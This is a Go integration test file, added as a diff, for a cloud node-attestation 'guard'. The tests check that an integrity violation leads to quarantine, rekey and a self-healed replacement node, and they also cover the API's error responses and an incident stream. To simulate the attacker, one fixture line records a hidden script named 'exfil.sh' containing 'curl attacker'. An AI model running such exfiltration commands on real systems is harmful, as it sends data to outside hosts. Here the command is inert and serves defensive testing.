@@ -1,0 +1,316 @@
+package remote
+
+import (
+	"context"
+	"errors"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	"bolted/internal/bmi"
+	"bolted/internal/core"
+	"bolted/internal/ima"
+)
+
+// newGuardServer builds a full-surface boltedd over an in-process
+// cloud and returns the client plus the server-side manager (used only
+// to plant the tenant whitelist and to play the attacker — everything
+// the test *observes* goes through /v1).
+func newGuardServer(t *testing.T, nodes int) (*V1Client, *core.Manager, *core.Cloud) {
+	t.Helper()
+	cfg := core.DefaultConfig()
+	cfg.Nodes = nodes
+	cloud, err := core.NewCloud(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := cloud.BMI.CreateOSImage("hardened", bmi.OSImageSpec{
+		KernelID: "hardened-4.17.9",
+		Kernel:   []byte("vmlinuz"),
+		Initrd:   []byte("initrd"),
+		Cmdline:  "root=iscsi ima_policy=tcb",
+	}); err != nil {
+		t.Fatal(err)
+	}
+	mgr := core.NewManager(cloud)
+	h, err := NewHandlerWithManager(cloud, mgr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(h)
+	t.Cleanup(srv.Close)
+	return NewV1Client(srv.URL), mgr, cloud
+}
+
+// TestGuardEndToEndOverWire is the ISSUE acceptance path: with a guard
+// enabled over /v1, an IMA whitelist violation on an Allocated node
+// results — observable purely through /v1 — in an incident resource,
+// the node journalled Allocated -> Quarantined, a rekey, and a
+// replacement node reaching Allocated.
+func TestGuardEndToEndOverWire(t *testing.T) {
+	cli, mgr, _ := newGuardServer(t, 4)
+	ctx := context.Background()
+
+	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
+		t.Fatal(err)
+	}
+	// The runtime whitelist is tenant-authored before nodes boot; it
+	// has no wire endpoint (it ships inside attested payloads), so the
+	// test reaches in server-side exactly once here.
+	e, err := mgr.Enclave("charlie")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app-v1"))
+
+	op, err := cli.Acquire(ctx, "charlie", "hardened", 3)
+	if err != nil {
+		t.Fatal(err)
+	}
+	done, err := cli.WaitOperation(ctx, op.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(done.Result.Nodes) != 3 {
+		t.Fatalf("allocated %d of 3: %+v", len(done.Result.Nodes), done.Result)
+	}
+
+	g, err := cli.EnableGuard(ctx, "charlie", GuardPolicyInfo{
+		Interval:       10 * time.Millisecond,
+		CoalesceWindow: 5 * time.Millisecond,
+		SelfHeal:       true,
+		Image:          "hardened",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !g.Policy.SelfHeal || g.Policy.MaxConcurrent == 0 {
+		t.Fatalf("guard policy not echoed with defaults: %+v", g.Policy)
+	}
+
+	// The attacker: an unauthorized binary runs on the first member.
+	victim := done.Result.Nodes[0]
+	var victimNode *core.Node
+	for _, n := range e.Nodes() {
+		if n.Name == victim {
+			victimNode = n
+		}
+	}
+	if victimNode == nil {
+		t.Fatalf("node %s not found server-side", victim)
+	}
+	victimNode.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker"), ima.HookExec, 0)
+
+	// 1. An incident resource appears and resolves, via /v1 alone.
+	var inc *IncidentInfo
+	deadline := time.Now().Add(15 * time.Second)
+	for inc == nil {
+		incs, err := cli.ListIncidents(ctx, "charlie")
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, candidate := range incs {
+			if candidate.Node == victim && candidate.Terminal() {
+				inc = candidate
+			}
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("no terminal incident for %s via /v1; have %+v", victim, incs)
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	if inc.State != string(core.IncidentResolved) {
+		t.Fatalf("incident state = %s, want resolved: %+v", inc.State, inc.Steps)
+	}
+	wantSteps := map[string]bool{"quarantine": false, "rekey": false, "replace": false}
+	for _, s := range inc.Steps {
+		if _, ok := wantSteps[s.Name]; ok {
+			wantSteps[s.Name] = true
+		}
+	}
+	for name, seen := range wantSteps {
+		if !seen {
+			t.Fatalf("incident missing %q step: %+v", name, inc.Steps)
+		}
+	}
+	// WaitIncident on a terminal incident returns immediately with the
+	// same state.
+	waited, err := cli.WaitIncident(ctx, inc.ID)
+	if err != nil || waited.State != inc.State {
+		t.Fatalf("WaitIncident = %+v, %v", waited, err)
+	}
+
+	// 2. The enclave resource shows the victim quarantined and three
+	// Allocated members again (the replacement healed the enclave).
+	info, err := cli.GetEnclave(ctx, "charlie")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := info.Nodes[victim]; got != string(core.StateQuarantined) {
+		t.Fatalf("victim state over /v1 = %q, want %q", got, core.StateQuarantined)
+	}
+	allocated := 0
+	for _, st := range info.Nodes {
+		if st == string(core.StateAllocated) {
+			allocated++
+		}
+	}
+	if allocated != 3 {
+		t.Fatalf("enclave has %d allocated members over /v1, want 3 (self-healed)", allocated)
+	}
+	if len(info.Incidents) != 0 {
+		t.Fatalf("enclave still reports open incidents: %v", info.Incidents)
+	}
+
+	// 3. The enclave journal stream shows the full kill chain,
+	// including the victim's Allocated -> Quarantined transition.
+	var kinds []string
+	victimJoined, victimQuarantined := false, false
+	if err := cli.EnclaveEvents(ctx, "charlie", 0, false, func(ev EventInfo) error {
+		kinds = append(kinds, ev.Kind)
+		if ev.Node == victim && ev.Kind == string(core.EvJoined) {
+			victimJoined = true
+		}
+		if ev.Node == victim && ev.Kind == string(core.EvQuarantined) {
+			if !victimJoined {
+				t.Fatalf("journal shows quarantine before allocation for %s", victim)
+			}
+			victimQuarantined = true
+		}
+		return nil
+	}); err != nil {
+		t.Fatal(err)
+	}
+	if !victimQuarantined {
+		t.Fatalf("journal over /v1 never showed %s quarantined: %v", victim, kinds)
+	}
+	count := func(kind core.EventKind) int {
+		n := 0
+		for _, k := range kinds {
+			if k == string(kind) {
+				n++
+			}
+		}
+		return n
+	}
+	if count(core.EvRevoked) < 1 || count(core.EvRekeyed) != 1 || count(core.EvHealed) != 1 {
+		t.Fatalf("journal kinds over /v1 = %v, want >=1 revoked, exactly 1 rekeyed and 1 healed", kinds)
+	}
+
+	// 4. The verifier revocation feed — the wire form of
+	// Verifier.Subscribe — carries the event.
+	revs, err := cli.Revocations(ctx, "charlie", 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(revs) != 1 || revs[0].Node != victim {
+		t.Fatalf("revocation feed over /v1 = %+v, want one event for %s", revs, victim)
+	}
+
+	// 5. Guard status reflects the handled revocation.
+	g, err = cli.GetGuard(ctx, "charlie")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if g.Revocations != 1 || g.Rounds == 0 || len(g.Incidents) != 1 {
+		t.Fatalf("guard status over /v1 = %+v, want 1 revocation, >0 rounds, 1 incident", g)
+	}
+
+	// 6. Disable tears the guard down; status turns not-found.
+	if err := cli.DisableGuard(ctx, "charlie"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := cli.GetGuard(ctx, "charlie"); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("GetGuard after disable = %v, want ErrNotFound", err)
+	}
+}
+
+// TestGuardWireErrors: the guard surface speaks the same typed error
+// envelopes as the rest of /v1.
+func TestGuardWireErrors(t *testing.T) {
+	cli, _, _ := newGuardServer(t, 2)
+	ctx := context.Background()
+
+	if _, err := cli.EnableGuard(ctx, "ghost", GuardPolicyInfo{}); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("EnableGuard on unknown enclave = %v, want ErrNotFound", err)
+	}
+	if _, err := cli.CreateEnclave(ctx, "bob", "bob"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := cli.EnableGuard(ctx, "bob", GuardPolicyInfo{}); !errors.Is(err, core.ErrConflict) {
+		t.Fatalf("EnableGuard on bob profile = %v, want ErrConflict", err)
+	}
+	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := cli.EnableGuard(ctx, "charlie", GuardPolicyInfo{SelfHeal: true}); !errors.Is(err, core.ErrInvalid) {
+		t.Fatalf("EnableGuard self-heal without image = %v, want ErrInvalid", err)
+	}
+	if _, err := cli.GetGuard(ctx, "charlie"); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("GetGuard with no guard = %v, want ErrNotFound", err)
+	}
+	if err := cli.DisableGuard(ctx, "charlie"); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("DisableGuard with no guard = %v, want ErrNotFound", err)
+	}
+	if _, err := cli.GetIncident(ctx, "inc-9999"); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("GetIncident unknown = %v, want ErrNotFound", err)
+	}
+	incs, err := cli.ListIncidents(ctx, "")
+	if err != nil || incs == nil || len(incs) != 0 {
+		t.Fatalf("ListIncidents empty = %v, %v; want [], nil", incs, err)
+	}
+}
+
+// TestIncidentStreamOverWire follows the NDJSON incident feed while a
+// revocation on an unguarded enclave turns into an unhandled incident.
+func TestIncidentStreamOverWire(t *testing.T) {
+	cli, mgr, _ := newGuardServer(t, 2)
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+
+	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
+		t.Fatal(err)
+	}
+	e, err := mgr.Enclave("charlie")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app-v1"))
+	op, err := cli.Acquire(ctx, "charlie", "hardened", 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	done, err := cli.WaitOperation(ctx, op.ID)
+	if err != nil || len(done.Result.Nodes) != 1 {
+		t.Fatalf("acquire: %+v, %v", done, err)
+	}
+	node := done.Result.Nodes[0]
+
+	got := make(chan IncidentInfo, 16)
+	streamErr := make(chan error, 1)
+	go func() {
+		streamErr <- cli.StreamIncidents(ctx, 0, func(inc IncidentInfo) error {
+			got <- inc
+			return nil
+		})
+	}()
+	// Give the stream a beat to connect, then trigger the revocation.
+	time.Sleep(50 * time.Millisecond)
+	e.Verifier().Revoke(node, "tenant-side detection")
+
+	deadline := time.After(10 * time.Second)
+	for {
+		select {
+		case inc := <-got:
+			if inc.Node == node && inc.State == string(core.IncidentUnhandled) {
+				cancel()
+				<-streamErr // stream ends once ctx is cancelled
+				return
+			}
+		case err := <-streamErr:
+			t.Fatalf("stream ended early: %v", err)
+		case <-deadline:
+			t.Fatal("never saw the unhandled incident on the stream")
+		}
+	}
+}
